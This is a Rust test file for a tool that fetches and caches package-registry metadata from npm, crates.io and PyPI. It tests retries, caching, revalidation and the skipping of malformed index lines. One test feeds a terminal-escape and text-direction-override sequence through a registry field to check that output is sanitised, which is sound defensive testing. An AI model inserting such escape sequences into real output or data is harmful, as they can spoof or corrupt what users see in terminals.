    let server = Server::start(move |req: &Request| {
        if flag.load(std::sync::atomic::Ordering::SeqCst) { Reply::status(503) } else { registries(req) }
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    let want = [wanted(Ecosystem::Npm, "@demo/widget", &["2.0.1"])];
    let first = fetch(&config, &want, &none);
    down.store(true, std::sync::atomic::Ordering::SeqCst);
    config.now = NOW + config.ttl * 2;
    let fetched = fetch(&config, &want, &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(first.packages, fetched.packages);
    assert_eq!((fetched.requests, fetched.cache_hits), (1, 1));
    assert_eq!(fetched.notes.len(), 1, "{:?}", fetched.notes);
    assert!(fetched.notes[0].contains("using the copy cached at 2026-01-01T00:00:00Z"), "{:?}", fetched.notes);
    assert!(fetched.notes[0].starts_with("npm: used earlier cached copies for 1 package(s) (@demo/widget)"));
}

#[test]
fn a_malformed_index_line_is_skipped_with_a_note() {
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/index/") {
            let mut body = fixture("crates.io/index/ch/ai/chainward-demo");
            body.extend_from_slice(b"{\"name\":\"chainward-demo\",\"vers\":\n<html>\n");
            return Reply::json(body);
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(package(&fetched, Ecosystem::Cargo, "chainward-demo").versions.len(), 5);
    assert_eq!(fetched.notes.len(), 2, "{:?}", fetched.notes);
    assert!(fetched.notes[0].contains("line 6 skipped"), "{:?}", fetched.notes);
}

#[test]
fn crates_io_versions_pages_are_followed() {
    let server = Server::start(|req: &Request| {
        let all: serde_json::Value =
            serde_json::from_slice(&fixture("crates.io/api/chainward-demo/versions.json")).unwrap();
        let versions = all["versions"].as_array().unwrap();
        match req.path.as_str() {
            "/api/v1/crates/chainward-demo/versions" => Reply::json(
                serde_json::json!({"versions": &versions[..3], "meta": {"total": 5, "next_page": "?per_page=3&seek=Wzk5OV0"}})
                    .to_string(),
            ),
            "/api/v1/crates/chainward-demo/versions?per_page=3&seek=Wzk5OV0" => Reply::json(
                serde_json::json!({"versions": &versions[3..], "meta": {"total": 5, "next_page": null}}).to_string(),
            ),
            _ => registries(req),
        }
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert!(meta.detailed);
    assert!(meta.versions.iter().all(|v| v.provenance.is_some()), "{:?}", meta.versions);
    assert_eq!(server.requests_to("/api/v1/crates/chainward-demo/versions").len(), 2);
}

/// The demo's index file without its last line (`0.3.1`, not published yet).
fn index_before_0_3_1() -> Vec<u8> {
    let full = String::from_utf8(fixture("crates.io/index/ch/ai/chainward-demo")).unwrap();
    let lines: Vec<&str> = full.lines().filter(|l| !l.contains("\"vers\":\"0.3.1\"")).collect();
    format!("{}\n", lines.join("\n")).into_bytes()
}

#[test]
fn a_fresh_listing_that_lacks_a_version_in_use_is_revalidated_once_and_what_stays_unlisted_is_missing() {
    let published = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&published);
    let server = Server::start(move |req: &Request| {
        if req.path == "/index/ch/ai/chainward-demo" {
            let body = if flag.load(Ordering::SeqCst) {
                fixture("crates.io/index/ch/ai/chainward-demo")
            } else {
                index_before_0_3_1()
            };
            let tag = etag(&body);
            if req.header("if-none-match") == Some(tag.as_str()) {
                return Reply::status(304).with_header("ETag", &tag);
            }
            return Reply::json(body).with_header("ETag", &tag);
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    let first = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.0"])], &none);
    assert!(package(&first, Ecosystem::Cargo, "chainward-demo").version("0.3.1").is_none());
    assert!(first.missing.is_empty());

    // 0.3.1 is published; a minute later (well within the TTL) a lockfile uses it.
    published.store(true, Ordering::SeqCst);
    config.now = NOW + Duration::from_secs(60);
    let second = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1", "9.9.9"])], &none);
    assert!(second.failures.is_empty(), "{:?}", second.failures);
    assert_eq!((second.requests, second.cache_hits), (1, 0));
    let index = server.requests_to("/index/");
    assert_eq!(index.len(), 2);
    assert_eq!(index[1].header("if-none-match"), Some(etag(&index_before_0_3_1()).as_str()), "not conditional");
    let meta = package(&second, Ecosystem::Cargo, "chainward-demo");
    assert_eq!(meta.version("0.3.1").unwrap().published_at, Some(datetime!(2025-07-15 21:14:03 UTC)));
    // Never listed: visible, not silently absent.
    assert_eq!(second.missing, [(Ecosystem::Cargo, "chainward-demo".to_owned(), "9.9.9".to_owned())]);

    // Everything in use is listed: the fresh copy is used as is.
    let third = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
    assert_eq!((third.requests, third.cache_hits), (0, 1));
    assert!(third.missing.is_empty());
    // Still unlisted: asked once more per run (a 304 this time), still missing.
    let fourth = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["9.9.9"])], &none);
    assert_eq!((fourth.requests, fourth.cache_hits), (1, 1));
    assert_eq!(fourth.missing, second.missing);
    let index = server.requests_to("/index/");
    assert_eq!(index.len(), 3);
    assert_eq!(index[2].header("if-none-match"), Some(etag(&fixture("crates.io/index/ch/ai/chainward-demo")).as_str()));
}

#[test]
fn a_pep440_equal_pypi_version_is_found_and_not_missing() {
    let server = Server::start(registries);
    let cache = tempfile::tempdir().unwrap();
    let config = config(&server.url, cache.path());
    // The registry writes `1.0`; the lockfile `1.0.0`.
    let want = [wanted(Ecosystem::PyPI, "sampleproject", &["1.0.0", "4.0"])];
    let first = fetch(&config, &want, &none);
    let meta = package(&first, Ecosystem::PyPI, "sampleproject");
    assert_eq!(meta.version("1.0.0").unwrap().version, "1.0");
    assert_eq!(meta.version("4.0").unwrap().version, "4.0.0");
    assert!(meta.versions.iter().any(|v| v.version == "1.0") && !meta.versions.iter().any(|v| v.version == "1.0.0"));
    assert!(first.missing.is_empty(), "{:?}", first.missing);
    // Found in the fresh copy: nothing to revalidate.
    let second = fetch(&config, &want, &none);
    assert_eq!((second.requests, second.cache_hits), (0, 1));
}

#[test]
fn two_hundred_thousand_malformed_index_lines_cost_a_bounded_number_of_notes() {
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/index/") {
            let mut body = fixture("crates.io/index/ch/ai/chainward-demo");
            for i in 0..200_000 {
                body.extend_from_slice(format!("{{\"name\":\"chainward-demo\",\"vers\":{i}\n").as_bytes());
            }
            return Reply::json(body);
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(package(&fetched, Ecosystem::Cargo, "chainward-demo").versions.len(), 5);
    assert_eq!(fetched.notes.len(), 4, "{:?}", &fetched.notes[..fetched.notes.len().min(10)]);
    assert!(fetched.notes[0].contains("line 6 skipped"), "{:?}", fetched.notes);
    assert_eq!(fetched.notes[3], "crates.io `chainward-demo`: and 199997 more malformed records skipped");
}

/// Whether files can be created in `dir` (as root, permissions do not stop it).
fn writable(dir: &Path) -> bool {
    let probe = dir.join("probe");
    let ok = std::fs::write(&probe, b"x").is_ok();
    let _ = std::fs::remove_file(&probe);
    ok
}

#[test]
fn a_read_only_cache_is_one_note_per_registry() {
    use std::os::unix::fs::PermissionsExt;
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/npm/") { serve_fixture(req, "npm/@demo/widget.json") } else { registries(req) }
    });
    let cache = tempfile::tempdir().unwrap();
    let dir = cache.path().join("registry");
    std::fs::create_dir(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o555)).unwrap();
    let mut want: Vec<Wanted> = (0..12).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i:02}"), &["2.0.1"])).collect();
    want.push(wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"]));
    let fetched = fetch(&config(&server.url, &dir), &want, &none);
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(fetched.packages.len(), 13);
    if writable_as(&dir, 0o555) {
        eprintln!("skipped: a read-only directory is writable here (root?)");
        return;
    }
    assert_unwritable_notes(&fetched);
}

/// Whether `dir` is writable once its mode is `mode` (restored to 0o755 after).
fn writable_as(dir: &Path, mode: u32) -> bool {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(mode)).unwrap();
    let ok = writable(dir);
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    ok
}

fn assert_unwritable_notes(fetched: &Fetched) {
    assert_eq!(fetched.notes.len(), 2, "{:#?}", fetched.notes);
    let crates = &fetched.notes[0];
    assert!(
        crates.starts_with("crates.io: cannot write the registry cache for 1 package(s) (chainward-demo): "),
        "{crates}"
    );
    let npm = &fetched.notes[1];
    assert!(
        npm.starts_with("npm: cannot write the registry cache for 12 package(s) (pkg00, pkg01, pkg02, and 9 more): "),
        "{npm}"
    );
}

#[test]
fn an_unwritable_cache_is_one_note_per_registry_even_as_root() {
    // Where the cache's registry directories should be, files: nobody can create entries there.
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/npm/") { serve_fixture(req, "npm/@demo/widget.json") } else { registries(req) }
    });
    let cache = tempfile::tempdir().unwrap();
    for slug in ["npm", "crates.io-index"] {
        std::fs::write(cache.path().join(slug), b"not a directory").unwrap();
    }
    let mut want: Vec<Wanted> = (0..12).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i:02}"), &["2.0.1"])).collect();
    want.push(wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"]));
    let fetched = fetch(&config(&server.url, cache.path()), &want, &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(fetched.packages.len(), 13);
    assert_unwritable_notes(&fetched);
}

#[test]
fn a_down_registry_with_stale_copies_of_twenty_packages_is_one_note() {
    let down = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&down);
    let server = Server::start(move |req: &Request| {
        if flag.load(Ordering::SeqCst) {
            Reply::status(503)
        } else if req.path.starts_with("/npm/") {
            serve_fixture(req, "npm/@demo/widget.json")
        } else {
            registries(req)
        }
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.concurrency = 2;
    let want: Vec<Wanted> =
        (0..20).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i:02}"), &["2.0.1", "9.9.9"])).collect();
    let first = fetch(&config, &want, &none);
    assert_eq!(first.packages.len(), 20);
    down.store(true, Ordering::SeqCst);
    config.now = NOW + config.ttl * 2;
    let fetched = fetch(&config, &want, &none);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert_eq!(fetched.packages, first.packages);
    assert_eq!(fetched.notes.len(), 1, "{:#?}", fetched.notes);
    let note = &fetched.notes[0];
    assert!(
        note.starts_with("npm: used earlier cached copies for 20 package(s) (pkg00, pkg01, pkg02, and 17 more) because the registry failed: "),
        "{note}"
    );
    assert!(note.contains("HTTP 503") && note.contains("using the copy cached at 2026-01-01T00:00:00Z"), "{note}");
    // Three 503s in a row: npm was not asked about the rest.
    assert!(fetched.requests <= 3 + 1, "{}", fetched.requests);
    // A stale copy confirms nothing: 9.9.9 may have been published since.
    assert!(fetched.missing.is_empty(), "{:?}", fetched.missing);
}

#[test]
fn a_429_with_retry_after_is_retried_once_after_the_wait() {
    let limited = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&limited);
    let server = Server::start(move |req: &Request| {
        if req.path == "/api/v1/crates/chainward-demo/versions" && count.fetch_add(1, Ordering::SeqCst) == 0 {
            return Reply::Full {
                status: 429,
                headers: vec![("Retry-After".into(), "1".into()), ("Content-Type".into(), "application/json".into())],
                body: br#"{"errors":[{"detail":"too many requests"}]}"#.to_vec(),
            };
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    assert!(package(&fetched, Ecosystem::Cargo, "chainward-demo").detailed);
    let versions = server.requests_to("/api/v1/crates/chainward-demo/versions");
    assert_eq!(versions.len(), 2);
    let gap = versions[1].at.duration_since(versions[0].at);
    assert!(gap >= Duration::from_millis(950), "retried after {gap:?}");
    assert_eq!(fetched.requests, 4);
}

#[test]
fn server_errors_in_a_row_open_the_breaker_and_a_retry_happens_at_most_once() {
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/npm/") {
            return Reply::status(503).with_header("Retry-After", "0");
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    config.concurrency = 1;
    let want: Vec<Wanted> = (0..8).map(|i| wanted(Ecosystem::Npm, &format!("pkg{i}"), &["1.0.0"])).collect();
    let fetched = fetch(&config, &want, &none);
    // pkg0: 503, retried once, 503; pkg1: 503 (the third in a row: no retry); then not asked.
    assert_eq!(server.requests_to("/npm/").len(), 3);
    assert_eq!(fetched.requests, 3);
    let messages: Vec<String> =
        fetched.failures.iter().map(|f| format!("{} {:?}: {}", f.registry, f.packages, f.message)).collect();
    assert_eq!(messages.len(), 2, "{messages:#?}");
    assert!(messages.iter().any(|m| m.contains("[\"pkg0\", \"pkg1\"]") && m.contains("HTTP 503")), "{messages:#?}");
    assert!(
        messages
            .iter()
            .any(|m| m.contains("\"pkg7\"") && m.contains("stopped asking npm after 3 failed requests in a row")),
        "{messages:#?}"
    );
}

#[test]
fn crates_io_versions_pages_beyond_the_limit_are_a_note_and_leave_details_unused() {
    let server = Server::start(|req: &Request| {
        if let Some(rest) = req.path.strip_prefix("/api/v1/crates/chainward-demo/versions") {
            // Every page points to another.
            let n: u32 = rest.strip_prefix("?page=").and_then(|n| n.parse().ok()).unwrap_or(1);
            return Reply::json(
                serde_json::json!({"versions": [], "meta": {"next_page": format!("?page={}", n + 1)}}).to_string(),
            );
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert!(!meta.detailed);
    assert!(meta.versions.iter().all(|v| v.publisher.is_none() && v.provenance.is_none()));
    assert_eq!(server.requests_to("/api/v1/crates/chainward-demo/versions").len(), 20);
    assert_eq!(fetched.notes.len(), 1, "{:?}", fetched.notes);
    assert!(fetched.notes[0].contains("more than 20 pages"), "{:?}", fetched.notes);
    // The owners are still fetched (and snapshotted).
    assert!(meta.owners.is_some());
}

#[test]
fn notes_are_safe_to_print() {
    let server = Server::start(|req: &Request| {
        if req.path.starts_with("/index/") {
            let mut body = fixture("crates.io/index/ch/ai/chainward-demo");
            body.extend_from_slice("{\"name\":\"x\",\"vers\":\"1\",\"yanked\":\"\u{1b}[2J\u{202e}\"}\n".as_bytes());
            return Reply::json(body);
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let fetched =
        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &none);
    assert_eq!(fetched.notes.len(), 1, "{:?}", fetched.notes);
    assert!(fetched.notes[0].contains("line 6 skipped"), "{:?}", fetched.notes);
    assert!(fetched.notes.iter().all(|n| !n.chars().any(|c| c.is_control() || c == '\u{202e}')), "{:?}", fetched.notes);
}

#[test]
fn a_fresh_crates_io_api_copy_older_than_the_index_is_revalidated() {
    let published = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&published);
    let server = Server::start(move |req: &Request| {
        let now = flag.load(Ordering::SeqCst);
        if req.path == "/index/ch/ai/chainward-demo" {
            let body = if now { fixture("crates.io/index/ch/ai/chainward-demo") } else { index_before_0_3_1() };
            return Reply::json(body);
        }
        if req.path == "/api/v1/crates/chainward-demo/versions" {
            let mut all: serde_json::Value =
                serde_json::from_slice(&fixture("crates.io/api/chainward-demo/versions.json")).unwrap();
            if !now {
                all["versions"].as_array_mut().unwrap().retain(|v| v["num"] != "0.3.1");
            }
            let body = all.to_string();
            let tag = etag(body.as_bytes());
            if req.header("if-none-match") == Some(tag.as_str()) {
                return Reply::status(304).with_header("ETag", &tag);
            }
            return Reply::json(body).with_header("ETag", &tag);
        }
        registries(req)
    });
    let cache = tempfile::tempdir().unwrap();
    let mut config = config(&server.url, cache.path());
    fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.0"])], &all);
    published.store(true, Ordering::SeqCst);
    config.now = NOW + Duration::from_secs(60);
    let fetched = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
    assert!(meta.detailed);
    // Without the second look at the API, 0.3.1 would have no publisher at all.
    assert_eq!(meta.version("0.3.1").unwrap().publisher.as_ref().unwrap().id, "github:mallory");
    // The index and the versions asked again (conditionally); the owners' fresh copy used.
    assert_eq!((fetched.requests, fetched.cache_hits), (2, 1));
    let versions = server.requests_to("/api/v1/crates/chainward-demo/versions");
    assert_eq!(versions.len(), 2);
    assert!(versions[1].header("if-none-match").is_some());
    // Now both agree: within the TTL, nothing is asked.
    let again = fetch(&config, &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
    assert_eq!((again.requests, again.cache_hits), (0, 3));
}
